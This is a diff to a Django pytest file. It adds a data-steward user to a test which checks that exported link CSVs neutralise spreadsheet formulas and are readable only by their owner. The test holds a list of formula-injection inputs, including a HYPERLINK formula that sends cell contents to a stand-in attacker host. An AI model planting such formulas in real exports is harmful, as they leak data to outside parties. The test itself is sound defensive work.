@@ -10,7 +10,7 @@ from io import StringIO
 import pytest
 from django.core.management import call_command
 
-from factories import link, make_person, make_source, make_source_record
+from factories import link, make_person, make_source, make_source_record, make_staff
 from wraparound.core.spreadsheet_cells import as_text
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Open")', "+1+1", "-2+3", "@SUM(A1)", "\t=1"]
@@ -25,7 +25,8 @@ def test_export_links_neutralises_formulas_and_is_readable_by_its_owner_only(tmp
     out = tmp_path / "links.csv"
     out.write_text("old")
     out.chmod(0o644)  # an existing, world-readable file is narrowed, not kept as it was
-    call_command("export-links", str(out), stdout=StringIO())
+    steward = make_staff(role="data_steward").username
+    call_command("export-links", str(out), "--by", steward, stdout=StringIO())
     assert stat.S_IMODE(os.stat(out).st_mode) == 0o600
     with open(out, newline="", encoding="utf-8") as handle:
         rows = list(csv.DictReader(handle))
